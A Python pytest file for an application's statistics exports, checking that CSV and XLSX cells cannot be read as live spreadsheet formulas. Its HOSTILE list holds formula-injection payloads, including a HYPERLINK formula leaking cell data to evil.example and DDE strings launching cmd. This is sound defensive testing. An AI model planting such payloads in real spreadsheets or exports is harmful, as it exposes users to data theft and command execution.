"""No export carries a live spreadsheet formula: every text cell is data, numbers stay numbers.

Every text of the database that reaches a statistics export (office, partner, motif,
thématique and register names) is set to a corpus of formula-looking values; the CSV files
(French and English) and the XLSX workbook are read back cell by cell.
"""

from __future__ import annotations

import csv
from itertools import cycle
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from pimms_tui import i18n
from pimms_tui.application.stats import StatsService
from pimms_tui.db.engine import Database
from pimms_tui.db.enums import Role
from pimms_tui.db.models import Motif, Office, Partner, Register, Thematique
from pimms_tui.documents.cells import FORMULA_STARTS, neutral_text, starts_a_formula
from pimms_tui.documents.stats_csv import csv_cell, read_csv
from pimms_tui.domain.actors import Actor
from pimms_tui.domain.offices import OfficeInfo
from pimms_tui.domain.stats import StatsQuery
from tests.statskit import DAY, build_activity

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Aide CAF")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "  =1+1",
]


def formula_like(cell: str) -> bool:
    """What a spreadsheet could take for a formula."""
    return bool(cell) and (cell[0] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS)


def hostile_names(database: Database, office: OfficeInfo) -> None:
    """Every name an export shows, from the corpus (each a different value)."""
    values = cycle(HOSTILE)
    with database.write() as session:
        session.execute(update(Office).where(Office.id == office.id).values(name=next(values)))
        for model, columns in (
            (Partner, ("name",)),
            (Motif, ("label_fr", "label_en")),
            (Thematique, ("label",)),
            (Register, ("label_fr", "label_en")),
        ):
            for row in session.query(model).all():
                for column in columns:
                    setattr(row, column, next(values))


@pytest.fixture
def export(database: Database, office: OfficeInfo, tmp_path: Path):  # type: ignore[no-untyped-def]
    build_activity(database, office)
    hostile_names(database, office)
    actor = Actor(office_id=office.id, desk_id=None, role=Role.MANAGER)
    query = StatsQuery(start=DAY, end=DAY, office_ids=(office.id,))

    def write(file_format: str, language: str) -> list[Path]:
        i18n.activate(language)
        path = tmp_path / language / f"stats.{file_format}"
        path.parent.mkdir(exist_ok=True)
        return StatsService(database).export(actor, query, path=path, file_format=file_format)

    yield write
    i18n.activate("fr")


@pytest.mark.parametrize("language", ["fr", "en"])
def test_no_csv_cell_starts_a_formula(export, language: str) -> None:  # type: ignore[no-untyped-def]
    detail, summary = export("csv", language)
    cells = [cell for path in (detail, summary) for row in read_csv(path) for cell in row]
    assert [cell for cell in cells if formula_like(cell)] == []
    # The names are all there, each behind its apostrophe, whole.
    shown = {cell[1:] for cell in cells if cell.startswith("'")}
    assert any(value in shown for value in HOSTILE)
    assert all(cell[1:] in HOSTILE or "'" + cell[1:] == cell for cell in cells if cell[:1] == "'")
    # Numbers stay numbers: the waited minutes, the counts.
    rows = read_csv(detail)
    assert all(
        row[9] == "" or row[9].replace(",", ".").replace(".", "", 1).isdigit() for row in rows[1:]
    )


def test_no_xlsx_cell_is_a_formula(export) -> None:  # type: ignore[no-untyped-def]
    (path,) = export("xlsx", "fr")
    workbook = load_workbook(path)
    seen_hostile, numbers = set(), 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and starts_a_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    seen_hostile.add(cell.value)
                numbers += isinstance(cell.value, int | float)
    # Each name is there as it is stored (XML reads a carriage return back as a line feed).
    stored = {value.replace("\r", "\n") for value in HOSTILE}
    assert len(seen_hostile) >= 6
    assert all(any(cell.startswith(value) for value in stored) for cell in seen_hostile)
    assert numbers > 10  # counts, minutes and shares are still numbers


def test_the_neutraliser_on_every_kind_of_cell() -> None:
    for value in HOSTILE:
        assert neutral_text(value) == "'" + value
        assert csv_cell(value) == "'" + value
    for benign in ("CAF", "Énergie", "L'Assurance maladie", "a=b", "1-2", ""):
        assert neutral_text(benign) == benign
    assert csv_cell(-3) == "-3" and csv_cell(-2.5) in ("-2,5", "-2.5")  # numbers stay numbers


def test_csv_cells_are_read_back_by_the_csv_module_as_written(tmp_path: Path) -> None:
    """A neutralised cell with the separator and quotes in it survives a round trip."""
    path = tmp_path / "x.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerow([csv_cell(value) for value in HOSTILE])
    with path.open(newline="", encoding="utf-8") as back:
        (row,) = list(csv.reader(back))
    assert row == ["'" + value for value in HOSTILE]
